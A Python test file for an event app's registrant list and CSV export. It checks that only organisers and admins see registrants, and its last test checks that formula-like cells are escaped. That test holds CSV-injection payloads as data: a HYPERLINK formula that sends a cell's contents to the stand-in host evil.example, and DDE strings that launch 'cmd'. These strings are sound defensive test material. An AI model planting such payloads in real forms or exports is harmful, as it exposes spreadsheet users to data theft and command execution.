"""The registrant list and its CSV: for the event's organisers and admins only."""

import csv
import io

from tests.eventkit import account, bearer, client_of, event_body, login, person


def test_organisers_see_the_list_with_counts_and_download_a_spreadsheet_ready_csv(app):
    organizer = account("organizer@ichcap.org")
    api, headers = client_of(app), bearer(organizer)
    api.post("/api/v1/events", json=event_body("webinar"), headers=headers)
    api.post("/api/v1/events/webinar/publish", headers=headers)
    url = "/api/v1/events/webinar/registrations"
    api.post(url, json=person("aigerim@example.kz", name="Айгерим Нурлановна"))
    api.post(url, json=person("minji@example.kr", name="김민지", language="ko", country="KR"))

    browser = client_of(app)
    login(browser, organizer)
    page = browser.get("/en/organize/events/webinar/registrations")
    assert page.status_code == 200
    assert "Айгерим Нурлановна" in page.text and "minji@example.kr" in page.text
    assert "<strong>2</strong> confirmed" in page.text and "Kazakhstan" in page.text

    response = browser.get("/en/organize/events/webinar/registrations.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    assert response.data.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads it as UTF-8
    rows = list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert [(r["name"], r["language"], r["country"]) for r in rows] == [
        ("Айгерим Нурлановна", "ru", "KZ"),
        ("김민지", "ko", "KR"),
    ]
    assert rows[0]["email"] == "aigerim@example.kz" and rows[0]["status"] == "confirmed"


def test_nobody_else_sees_registrants(app):
    organizer = account("organizer@ichcap.org")
    api, headers = client_of(app), bearer(organizer)
    api.post("/api/v1/events", json=event_body("webinar"), headers=headers)
    api.post("/api/v1/events/webinar/publish", headers=headers)
    api.post("/api/v1/events/webinar/registrations", json=person("aigerim@example.kz"))
    for url in (
        "/en/organize/events/webinar/registrations",
        "/en/organize/events/webinar/registrations.csv",
    ):
        anonymous = client_of(app).get(url)  # sent to the log-in page, seeing nothing
        assert (
            anonymous.status_code == 302 and "/account/login?next=" in anonymous.headers["Location"]
        )
        for other in (account(f"x{len(url)}@iicas.org"), account(f"m{len(url)}@x.org", "member")):
            browser = client_of(app)
            login(browser, other)
            response = browser.get(url)
            assert response.status_code == 403 and "aigerim" not in response.text
        admin = client_of(app)
        login(admin, account(f"admin{len(url)}@x.org", "admin"))
        assert "aigerim@example.kz" in admin.get(url).text


def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(app):
    """Finding 6: a registrant's own words must not become a formula in the organiser's sheet."""
    organizer = account("organizer@ichcap.org")
    api, headers = client_of(app), bearer(organizer)
    api.post("/api/v1/events", json=event_body("webinar"), headers=headers)
    api.post("/api/v1/events/webinar/publish", headers=headers)
    hostile = [
        ('=HYPERLINK("https://evil.example/?"&B2,"Click")', "+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),
        ("\tTab =1+1", "Plain Organisation"),
    ]
    url = "/api/v1/events/webinar/registrations"
    for i, (name, organization) in enumerate(hostile):
        answer = api.post(
            url, json=person(f"p{i}@example.org", name=name, organization=organization)
        )
        assert answer.status_code in (201, 202), answer.get_json()
    browser = client_of(app)
    login(browser, organizer)
    response = browser.get("/en/organize/events/webinar/registrations.csv")
    rows = list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))
    cells = [value for row in rows for value in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    names = {row["email"]: (row["name"], row["organization"]) for row in rows}
    assert names["p0@example.org"] == (
        '\'=HYPERLINK("https://evil.example/?"&B2,"Click")',
        "'+cmd|' /C calc'!A0",
    )
    assert names["p1@example.org"][0] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert names["p1@example.org"][1] == "'-2+3+cmd|' /C calc'!A0"
    assert names["p2@example.org"][1] == "Plain Organisation"  # ordinary text is untouched
